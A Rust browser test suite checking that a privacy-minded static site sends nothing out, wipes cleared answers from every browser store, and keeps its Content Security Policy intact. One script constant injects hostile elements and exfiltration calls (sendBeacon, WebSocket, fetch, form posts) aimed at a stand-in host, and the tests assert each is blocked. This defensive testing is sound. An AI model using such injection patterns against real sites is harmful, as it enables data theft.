//! What is typed leaves no trace but where the visitor wants it: no request, no address, no title, no
//! word in the console; and what is cleared is gone from everything a browser keeps.

use end_to_end::browser::{Browser, Seen, Settings, Visit, Way, browse, find, seen, wait_for_text, wait_until};
use end_to_end::form::{answer_all, open};
use end_to_end::in_every_browser;
use end_to_end::print;
use end_to_end::site::published_with_wasm;
use serde_json::{Value, json};
use thirtyfour::prelude::*;

in_every_browser!(
    nothing_is_asked_for_once_a_page_has_loaded,
    cleared_is_gone_from_all_that_a_browser_keeps,
    the_policy_holds_where_a_script_gets_in,
);

/// Stands for what a visitor would not have others know.
const SECRET: &str = "卓玛措密语";

/// Words that tell whether the typed ones lie anywhere: addresses, title, stores. `IndexedDB` and caches
/// are asked later than the page answers, so the script calls back.
const TRACES: &str = "
    const secrets = arguments[0];
    const done = arguments[arguments.length - 1];
    const found = [];
    function look(place, text) {
        let plain = String(text);
        try { plain += decodeURIComponent(plain); } catch (error) { plain += ''; }
        secrets.forEach(function (secret) { if (plain.indexOf(secret) >= 0) found.push(place + ': ' + plain.slice(0, 200)); });
    }
    look('address', location.href);
    look('title', document.title);
    look('name', window.name);
    look('cookie', document.cookie);
    look('history', JSON.stringify(history.state));
    [['localStorage', localStorage], ['sessionStorage', sessionStorage]].forEach(function (store) {
        for (let at = 0; at < store[1].length; at++) {
            const key = store[1].key(at);
            look(store[0], key + store[1].getItem(key));
        }
    });
    performance.getEntriesByType('resource').forEach(function (entry) { look('request', entry.name); });
    const databases = indexedDB.databases ? indexedDB.databases() : Promise.resolve([]);
    databases.then(function (all) {
        all.forEach(function (database) { found.push('IndexedDB ' + database.name); });
        return caches.keys();
    }).then(function (keys) {
        return Promise.all(keys.map(function (key) {
            return caches.open(key).then(function (cache) { return cache.keys(); });
        }));
    }).then(function (kept) {
        kept.forEach(function (requests) { requests.forEach(function (request) { look('cache', request.url); }); });
        done(found);
    }, function (error) { done(found.concat(String(error))); });";

async fn traces(driver: &WebDriver, secrets: &[&str]) -> WebDriverResult<Vec<String>> {
    let found = driver.execute_async(TRACES, vec![json!(secrets)]).await?;
    Ok(serde_json::from_value(found.json().clone())?)
}

/// Takes what was noted; asserts that since the last time nothing was asked for but the page's own
/// downloads, which come from its memory.
async fn assert_silent(browser: Browser, driver: &WebDriver, what: &str, log: &mut Vec<String>) -> WebDriverResult<()> {
    let Seen { console, requests } = seen(browser, driver).await?;
    let asked: Vec<&String> = requests.iter().filter(|address| !address.starts_with("blob:")).collect();
    assert!(asked.is_empty(), "{browser:?}: {what} asked for {asked:#?}");
    assert!(console.is_empty(), "{browser:?}: {what} said {console:#?}");
    let files = requests.len();
    log.push(format!("{browser:?}, {what}: asked for nothing; files from memory: {files}"));
    Ok(())
}

async fn type_into(driver: &WebDriver, css: &str, words: &str) -> WebDriverResult<()> {
    let field = find(driver, css).await?;
    field.clear().await?;
    field.send_keys(words).await
}

/// The printer would wait for a person.
const NO_PRINTER: &str = "window.printed = 0; window.print = function () { window.printed += 1; };";
const PRINTED: &str = "return window.printed > 0;";

fn nothing_is_asked_for_once_a_page_has_loaded(browser: Browser) {
    let visit = Visit::new(published_with_wasm(), Way::SubPath);
    let folder = tempfile::tempdir().expect("a folder for downloads");
    let mut log = Vec::new();
    browse(Settings { downloads: Some(folder.path()), ..browser.into() }, async |driver| {
        // The self-check: answered, sent, saved, looked over, printed, cleared.
        open(&driver, &visit).await?;
        driver.execute(NO_PRINTER, Vec::new()).await?;
        wait_until(&driver, "the page whole", "return document.readyState === 'complete';").await?;
        let loaded = seen(browser, &driver).await?;
        assert!(loaded.requests.iter().any(|address| address.contains("/assets/")), "what is asked for is noted");
        let persona = json!({"matter": "reelect", "council_formal": 4271, "council_probationary": 0, "seats": 5});
        answer_all(&driver, &persona).await?;
        assert_silent(browser, &driver, "answering", &mut log).await?;
        for (what, css) in
            [("copying the link", "#check-copy"), ("saving answers", "#check-download"), ("keeping", "#check-keep")]
        {
            find(&driver, css).await?.click().await?;
            assert_silent(browser, &driver, what, &mut log).await?;
        }
        find(&driver, "#check-review-open").await?.click().await?;
        find(&driver, ".review-tools .button").await?.click().await?;
        wait_until(&driver, "the print dialog", PRINTED).await?;
        find(&driver, ".review-tools .button:nth-child(3)").await?.click().await?;
        assert_silent(browser, &driver, "printing and the editors' case", &mut log).await?;
        let found = traces(&driver, &["4271"]).await?;
        assert!(found.iter().all(|place| place.starts_with("localStorage: ")), "{browser:?}: {found:#?}");
        find(&driver, ".review-tools .button:nth-child(2)").await?.click().await?;
        find(&driver, "#check-form button[type=reset]").await?.click().await?;
        wait_for_text(&driver, "#check-note", "已清除").await?;
        assert_silent(browser, &driver, "clearing answers", &mut log).await?;

        // A form: filled in, as a Word file, as an archive, printed, saved, cleared.
        driver.goto(visit.url("fill/index.html#form=template-1")).await?;
        find(&driver, "#fill-preview .paper").await?;
        driver.execute(NO_PRINTER, Vec::new()).await?;
        seen(browser, &driver).await?;
        type_into(&driver, "#field-society", SECRET).await?;
        wait_for_text(&driver, "#fill-preview .paper", SECRET).await?;
        assert_silent(browser, &driver, "filling in", &mut log).await?;
        for id in ["fill-word", "fill-all", "fill-print", "fill-save", "fill-keep"] {
            find(&driver, &format!("#{id}")).await?.click().await?;
            assert_silent(browser, &driver, id, &mut log).await?;
        }
        wait_until(&driver, "the print dialog", PRINTED).await?;
        let found = traces(&driver, &[SECRET]).await?;
        assert!(found.iter().all(|place| place.starts_with("localStorage: ")), "{browser:?}: {found:#?}");
        find(&driver, "#fill-clear").await?.click().await?;
        assert_silent(browser, &driver, "clearing a form", &mut log).await?;

        // A checklist.
        driver.goto(visit.url("checklists/science-societies/index.html")).await?;
        find(&driver, "#checklist-counts").await?;
        driver.execute(NO_PRINTER, Vec::new()).await?;
        seen(browser, &driver).await?;
        type_into(&driver, "#head-society", SECRET).await?;
        type_into(&driver, "[data-note]", SECRET).await?;
        find(&driver, "#checklist input[type=radio]").await?.click().await?;
        for id in ["checklist-keep", "checklist-save", "checklist-print"] {
            find(&driver, &format!("#{id}")).await?.click().await?;
        }
        wait_until(&driver, "the print dialog", PRINTED).await?;
        assert_silent(browser, &driver, "a checklist", &mut log).await?;
        find(&driver, "#checklist button[type=reset]").await?.click().await?;

        // Days.
        driver.goto(visit.url("calendar/index.html")).await?;
        find(&driver, "[data-on]").await?;
        seen(browser, &driver).await?;
        set_day(&driver, "2031-03-04").await?;
        find(&driver, "#calendar button[type=submit]").await?.click().await?;
        wait_for_text(&driver, "#calendar-said", "已存下").await?;
        assert_silent(browser, &driver, "days", &mut log).await?;
        assert_eq!(traces(&driver, &[SECRET, "4271", "2031-03-04"]).await?, [""; 0], "{browser:?}");
        Ok(())
    });
    print(&log.join("\n"));
}

/// A date field takes its digits in the order of the browser's language; a script sets it the same everywhere.
async fn set_day(driver: &WebDriver, day: &str) -> WebDriverResult<()> {
    let script = "const field = document.querySelector('[data-on]');
        field.value = arguments[0];
        field.dispatchEvent(new Event('input', { bubbles: true }));";
    driver.execute(script, vec![json!(day)]).await.map(|_| ())
}

fn cleared_is_gone_from_all_that_a_browser_keeps(browser: Browser) {
    let visit = Visit::new(published_with_wasm(), Way::Root);
    browse(browser, async |driver| {
        // Kept and left, so that every store has had its chance; then cleared; then left again.
        open(&driver, &visit).await?;
        answer_all(&driver, &json!({"matter": "reelect", "council_formal": 4271, "council_probationary": 0})).await?;
        find(&driver, "#check-keep").await?.click().await?;
        leave_and_come_back(&driver, &visit, "#check-answer[data-ready] .verdict").await?;
        assert!(!traces(&driver, &["4271"]).await?.is_empty(), "{browser:?}: what is kept is found");
        find(&driver, "#check-form button[type=reset]").await?.click().await?;
        wait_for_text(&driver, "#check-note", "已清除").await?;
        leave_and_come_back(&driver, &visit, "#check-answer[data-ready]").await?;
        assert_eq!(traces(&driver, &["4271"]).await?, [""; 0], "{browser:?}");

        driver.goto(visit.url("fill/index.html#form=template-1")).await?;
        find(&driver, "#fill-preview .paper").await?;
        type_into(&driver, "#field-society", SECRET).await?;
        find(&driver, "#fill-keep").await?.click().await?;
        leave_and_come_back(&driver, &visit, "#fill-preview .paper").await?;
        assert!(!traces(&driver, &[SECRET]).await?.is_empty(), "{browser:?}: what is kept is found");
        find(&driver, "#fill-clear").await?.click().await?;
        wait_for_text(&driver, "#fill-note", "已清除").await?;
        leave_and_come_back(&driver, &visit, "#fill-preview .paper").await?;
        assert_eq!(traces(&driver, &[SECRET]).await?, [""; 0], "{browser:?}");

        driver.goto(visit.url("checklists/science-societies/index.html")).await?;
        type_into(&driver, "#head-society", SECRET).await?;
        find(&driver, "#checklist-keep").await?.click().await?;
        leave_and_come_back(&driver, &visit, "#checklist-counts").await?;
        assert!(!traces(&driver, &[SECRET]).await?.is_empty(), "{browser:?}: what is kept is found");
        find(&driver, "#checklist button[type=reset]").await?.click().await?;
        wait_for_text(&driver, "#checklist-said", "已清除").await?;
        leave_and_come_back(&driver, &visit, "#checklist-counts").await?;
        assert_eq!(traces(&driver, &[SECRET]).await?, [""; 0], "{browser:?}");

        driver.goto(visit.url("search/index.html")).await?;
        type_into(&driver, "#search-words", "差额").await?;
        find(&driver, ".search-hit").await?;
        find(&driver, "#search-words").await?.send_keys(Key::Enter).await?;
        // Firefox warns of scripts that are still on their way when a page is left.
        let ready = "return !document.getElementById('search-filters').hidden;";
        wait_until(&driver, "the filters offered", ready).await?;
        driver.goto(visit.url("glossary/index.html")).await?;
        find(&driver, "main[data-page=glossary]").await?;
        driver.goto(visit.url("search/index.html")).await?;
        wait_for_text(&driver, "#search-remarks", "差额").await?;
        find(&driver, "#search-remarks .button").await?.click().await?;
        wait_until(&driver, "no remarks", "return !document.querySelector('#search-remarks *');").await?;
        assert_eq!(traces(&driver, &["差额"]).await?, [""; 0], "{browser:?}");
        Ok(())
    });
}

/// By another page and the browser's own way back.
async fn leave_and_come_back(driver: &WebDriver, visit: &Visit, ready: &str) -> WebDriverResult<()> {
    driver.goto(visit.url("glossary/index.html")).await?;
    find(driver, "main[data-page=glossary]").await?;
    driver.back().await?;
    find(driver, ready).await.map(|_| ())
}

/// Everything that a script of a stranger would try.
const ATTEMPTS: &str = "
    const done = arguments[arguments.length - 1];
    const there = 'http://elsewhere.test/';
    function add(tag, set) {
        const node = document.createElement(tag);
        Object.keys(set).forEach(function (name) { node.setAttribute(name, set[name]); });
        document.body.appendChild(node);
        return node;
    }
    function attempt(act) { try { act(); } catch (error) { return; } }
    window.hostile = 0;
    const refused = {};
    const wanted = ['script-src', 'img-src', 'style-src', 'connect-src', 'form-action', 'base-uri', 'frame-src', 'object-src', 'media-src'];
    document.addEventListener('securitypolicyviolation', function (event) {
        refused[event.effectiveDirective.replace(/-(elem|attr)$/, '')] = true;
        if (wanted.every(function (directive) { return refused[directive]; })) finish();
    });
    add('script', {}).appendChild(document.createTextNode('window.hostile += 1;'));
    const inline = document.createElement('script');
    inline.textContent = 'window.hostile += 1;';
    document.body.appendChild(inline);
    add('script', { src: there + 'a.js' });
    add('script', { src: 'data:text/javascript,window.hostile+=1' });
    add('p', { onclick: 'window.hostile += 1' }).click();
    add('a', { href: 'javascript:window.hostile+=1' }).click();
    add('img', { src: there + 'a.png' });
    add('link', { rel: 'stylesheet', href: there + 'a.css' });
    add('iframe', { src: there + 'a.html' });
    add('object', { data: there + 'a.swf' });
    add('video', { src: there + 'a.mp4' });
    add('base', { href: there });
    const box = add('p', { style: 'background: url(' + there + 'b.png)' });
    attempt(function () { box.style.backgroundImage = 'url(' + there + 'c.png)'; });
    attempt(function () { navigator.sendBeacon(there + 'd', 'x'); });
    attempt(function () { new WebSocket('ws://elsewhere.test/'); });
    attempt(function () { new EventSource(there + 'e'); });
    attempt(function () { const request = new XMLHttpRequest(); request.open('GET', there + 'f'); request.send(); });
    const form = add('form', { action: there + 'g', method: 'post' });
    attempt(function () { form.submit(); });
    const fetched = Promise.all([there + 'h', 'index.html'].map(function (address) {
        return fetch(address).then(function () { return 'got ' + address; }, function () { return ''; });
    }));
    function finish() {
        fetched.then(function (got) { done({ ran: window.hostile, got: got.join(''), here: location.href }); });
    }";

fn the_policy_holds_where_a_script_gets_in(browser: Browser) {
    let visit = Visit::new(published_with_wasm(), Way::Root);
    browse(browser, async |driver| {
        for page in ["about/index.html", "check/index.html", "fill/index.html"] {
            driver.goto(visit.url(page)).await?;
            find(&driver, "main[data-page]").await?;
            wait_until(&driver, "the page loaded", "return document.readyState === 'complete';").await?;
            seen(browser, &driver).await?;
            let found: Value = driver.execute_async(ATTEMPTS, Vec::new()).await?.json().clone();
            assert_eq!((&found["ran"], &found["got"]), (&json!(0), &json!("")), "{browser:?}, {page}: {found}");
            assert_eq!(found["here"], visit.url(page), "{browser:?}: the page is still here");
            let seen = seen(browser, &driver).await?;
            assert!(!seen.console.is_empty(), "{browser:?}, {page}: what was refused is told");
            let left: Vec<_> = seen.requests.iter().filter(|address| address.contains("elsewhere")).collect();
            assert!(left.is_empty(), "{browser:?}, {page}: {left:#?}");
        }
        // Some of it is told a little later.
        driver.goto(visit.url("glossary/index.html")).await?;
        find(&driver, "main[data-page=glossary]").await?;
        seen(browser, &driver).await.map(|_| ())
    });
}
